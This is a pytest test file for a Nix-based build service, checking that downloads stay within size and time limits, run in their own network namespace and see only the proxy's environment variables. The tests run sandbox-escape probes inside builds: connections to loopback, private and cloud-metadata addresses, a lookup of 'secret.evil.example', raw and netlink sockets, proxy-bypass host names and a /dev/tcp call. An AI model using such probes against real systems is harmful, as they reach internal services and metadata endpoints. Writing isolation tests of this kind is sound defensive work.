"""Downloads that mean harm reach nothing, and end with a message of their own."""

from __future__ import annotations

import socket
import threading
from pathlib import Path
from typing import Any

import pytest

from spoold.model.response import Outcome
from spoold.nix import command, door, policy
from spoold.nix.store import Store
from tests.nix import room
from tests.nix.downloads import Allow, at, content, failed, shell, source
from tests.waiting import until
from tests.web import Web, endless, never

pytestmark = pytest.mark.nix

CONFIDENTIAL = "what-the-host-keeps-to-itself"


def test_a_download_without_end(allow: Allow, server: Web) -> None:
    server.answers["/x"] = endless
    builder = allow(f"localhost:{server.port}", fetch_bytes=3_000_000)
    said = failed(room.build(builder, shell(source(at(server)))), Outcome.OUTPUT_LIMIT)
    assert "source: the download took more than 3000000 bytes" in said


def test_a_download_that_hides_in_a_tunnel_and_writes_nothing(allow: Allow, server: Web) -> None:
    server.answers["/x"] = endless
    builder = allow(f"localhost:{server.port}", fetch_bytes=3_000_000)
    script = "curl --proxytunnel -fsS --output /dev/null $url; sleep 1000"
    said = failed(room.build(builder, shell(source(at(server), script=script))), Outcome.OUTPUT_LIMIT)
    assert "source: the download took more than 3000000 bytes" in said


def test_downloads_that_are_too_much_together(allow: Allow, server: Web) -> None:
    """A client could else fill the disk with many, each as large as one may be."""
    files = {f"/{name}": content(server, f"/{name}") + bytes(2_000_000) for name in ("a", "b")}
    for path, data in files.items():
        server.has(path, data)
    usual = allow(f"localhost:{server.port}")
    assert room.build(usual, shell(source(at(server), content(server)))).shell, "the tools of downloads count as output"
    builder = allow(f"localhost:{server.port}", output=3_000_000, fetch_bytes=2_500_000)
    sources = [source(at(server, path), data, name=path[1:]) for path, data in files.items()]
    said = failed(room.build(builder, shell(*sources)), Outcome.OUTPUT_LIMIT)
    assert "all downloads for it took more than 3000000 bytes (builder.limits.output)" in said


def test_a_connection_that_is_kept_for_ever(allow: Allow, server: Web) -> None:
    server.answers["/x"] = never
    builder = allow(f"localhost:{server.port}", fetch_time=2.0)
    script = "curl --proxytunnel -fsS --output $out $url & curl -fsS --output $out $url; wait"
    said = failed(room.build(builder, shell(source(at(server), script=script))), Outcome.TIME_LIMIT)
    assert "source: the download took more than 2 s" in said


def test_a_listed_name_that_leads_to_loopback(allow: Allow, server: Web) -> None:
    builder = allow(f"localhost:{server.port}", inside=[])
    said = failed(room.build(builder, shell(source(at(server)))))
    assert "source: the download was not let through" in said
    assert "which is no address of the Internet, and `[nix] fetch_inside` does not list it" in said
    assert server.asked == []


# Each tries to reach somebody in its own way, and prints the result.
ATTACKS = {
    "loopback": "connect(('127.0.0.1', PORT))",
    "the hosts own address": "connect((OWN, PORT))",
    "a private address": "connect(('10.0.0.1', 80))",
    "metadata": "connect(('169.254.169.254', 80))",
    "the internet": "connect(('1.1.1.1', 443))",
    "version 6": "connect(('2606:4700:4700::1111', 443), socket.AF_INET6)",
    "another loopback": "connect(('::1', PORT), socket.AF_INET6)",
    "a name": "socket.getaddrinfo('secret.evil.example', 80); print('REACHED')",
    "a name server": "datagram((NAMESERVER, 53))",
    "datagrams": "datagram(('127.0.0.1', PORT))",
    "raw packets": "socket.socket(socket.AF_INET, socket.SOCK_RAW, 1); print('REACHED')",
    "packets": "socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0); print('REACHED')",
    "vsock": "socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM); print('REACHED')",
    "netlink": "socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0); print('REACHED')",
    "the proxy by address": "proxy('127.0.0.1:PORT')",
    "the proxy by the hosts own": "proxy(OWN + ':PORT')",
    "the proxy by a decimal": "proxy('2130706433:PORT')",
    "the proxy by another port": "proxy('localhost:22')",
    "the proxy by a label": "proxy('secret.localhost:PORT')",
    "the proxys socket": "import glob; [print('REACHED', x) for x in glob.glob('/run/*') + glob.glob('/proc/*/fd/3')]",
}
PROGRAM = """
import os, socket, sys
OWN, NAMESERVER, PORT = sys.argv[1], sys.argv[2], int(sys.argv[3])
def connect(to, family=socket.AF_INET):
    s = socket.socket(family, socket.SOCK_STREAM); s.settimeout(5); s.connect(to); print("REACHED", to)
def datagram(to):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(1); s.sendto(b"secret", to); s.recv(1)
    print("REACHED", to)
def proxy(authority):
    authority = authority.replace("PORT", str(PORT))
    for line in ("CONNECT %s HTTP/1.1" % authority, "GET http://%s/x HTTP/1.1" % authority):
        s = socket.create_connection(("127.0.0.1", 3128)); s.settimeout(20)
        s.sendall(line.encode() + b"\\r\\n\\r\\n")
        if b" 200 " in s.recv(1000): print("REACHED", line)
failed = 0
for name, words in ATTACKS.items():
    try:
        exec(words)
        print("tried", name)
    except OSError as error:
        print("tried", name, error)
"""


def test_nothing_but_the_listed_host_is_reached(allow: Allow, server: Web) -> None:
    builder = allow(f"localhost:{server.port}")
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
        udp.connect(("192.0.2.1", 9))
        own = udp.getsockname()[0]
    program = f"ATTACKS = {ATTACKS!r}\n{PROGRAM}".replace("''", '""')
    run = f'python3 -c "$program" {own} {own} {server.port}; exit 1'
    fetch = source(at(server), script=run, tools="${pkgs.python3}/bin").replace(
        "url =", f"program = ''{program}''; url ="
    )
    said = failed(room.build(builder, shell(fetch)))
    for name in ATTACKS:
        assert f"tried {name}" in said
    assert "REACHED" not in said
    assert "which `[nix] fetch` does not allow" in said
    assert server.asked == []


def test_each_download_is_alone_in_its_call_of_nix(allow: Allow, server: Web, monkeypatch: pytest.MonkeyPatch) -> None:
    """Two downloads in one call of Nix would share a network namespace."""
    seen: list[tuple[list[str], door.Fetch]] = []
    run_builders = Store.run_builders

    def spying(store: Store, argv: list[str], *more: Any, fetch: door.Fetch | None = None, **others: Any) -> Any:
        if fetch is not None:
            seen.append(([word for word in argv if word.endswith(".drv")], fetch))
        return run_builders(store, argv, *more, fetch=fetch, **others)

    monkeypatch.setattr(Store, "run_builders", spying)
    builder = allow(f"localhost:{server.port}")
    fetches = [source(at(server, f"/{number}"), content(server, f"/{number}")) for number in range(3)]
    assert room.build(builder, shell(*fetches)).shell
    assert [len(paths) for paths, _ in seen] == [1, 1, 1]
    assert len({paths[0] for paths, _ in seen}) == len({id(fetch) for _, fetch in seen}) == 3


LISTENS = """
import os, socket, time, urllib.request
s = socket.socket(socket.AF_UNIX); s.bind("\\0spoold-test"); s.listen()
while urllib.request.urlopen(os.environ["url"]).read() != b"go on":
    time.sleep(0.1)
s.settimeout(0)
try:
    s.accept(); print("MET")
except BlockingIOError:
    print("alone")
"""
CALLS = """
import socket
try:
    socket.socket(socket.AF_UNIX).connect("\\0spoold-test"); print("MET")
except OSError:
    print("nobody")
"""


def test_downloads_at_the_same_time_do_not_meet(allow: Allow, server: Web) -> None:
    """They try an abstract Unix socket, by which two downloads could change each other's output."""
    builder = allow(f"localhost:{server.port}")
    said: list[str] = []
    server.has("/wait", b"wait")
    run = 'python3 -c "$program"; exit 1'

    def fetch(url: str, program: str) -> str:
        return source(url, script=run, tools="${pkgs.python3}/bin").replace("url =", f"program = ''{program}''; url =")

    listening = threading.Thread(
        target=lambda: said.append(failed(room.build(builder, shell(fetch(at(server, "/wait"), LISTENS)))))
    )
    listening.start()
    until(lambda: bool(server.asked))
    said.append(failed(room.build(builder, shell(fetch(at(server), CALLS)))))
    server.has("/wait", b"go on")
    listening.join()
    assert "nobody" in said[0]
    assert "alone" in said[1]
    assert "MET" not in said[0] + said[1]


def test_of_our_variables_it_gets_the_proxys(allow: Allow, server: Web, monkeypatch: pytest.MonkeyPatch) -> None:
    for name in ("SPOOLD_X", "http_proxy", "no_proxy", "NIX_CURL_FLAGS"):
        monkeypatch.setenv(name, CONFIDENTIAL)
    builder = allow(f"localhost:{server.port}")
    fetch = source(at(server), script="export -p; exit 1", more='"SPOOLD_X" "NIX_SSL_CERT_FILE"')
    said = failed(room.build(builder, shell(fetch)))
    assert CONFIDENTIAL not in said
    assert f'http_proxy="http://127.0.0.1:{door.PORT}"' in said
    assert 'no_proxy=""' in said
    assert builder.settings.nix.state not in said


@pytest.mark.parametrize("name", ["HOME", "PATH", "TMPDIR", "NIX_CONF_DIR", "NIX_STATE_DIR", "LD_PRELOAD"])
def test_variables_of_ours_are_refused(allow: Allow, name: str) -> None:
    said = failed(room.build(allow("github.com"), shell(source("https://github.com/x", more=f'"{name}"'))))
    assert f"source asks for {name} of the host's environment (impureEnvVars)" in said


def test_all_of_our_variables_are_refused_but_the_proxys() -> None:
    nothing = Path("/nowhere")
    ours = set(command.environment(nothing, nothing, nothing, network=False))
    assert ours <= policy.OURS
    assert not policy.OURS & {*door.VARIABLES, *door.CERTIFICATES}


def test_what_is_no_download_gets_none(allow: Allow, server: Web) -> None:
    """Such builds get neither the proxy's variables nor the network, nor a builder of Nix's own."""
    builder = allow(f"localhost:{server.port}")
    plain = source(at(server))
    plain = plain[: plain.index("outputHashMode")] + 'impureEnvVars = [ "http_proxy" ]; }'
    assert "Only a download that is pinned by a hash" in failed(room.build(builder, shell(plain)))
    script = "(echo > /dev/tcp/127.0.0.1/3128) && echo REACHED; exit 1"
    said = failed(room.build(builder, room.SHELL % f'X = pkgs.runCommand "net" {{ }} "{script}";'))
    assert "REACHED" not in said
    fixed = source(at(server)).replace('builder = "${pkgs.bash}/bin/bash"', 'builder = "builtin:unpack-channel"')
    assert "builtin:unpack-channel, which runs outside" in failed(room.build(builder, shell(fixed)))
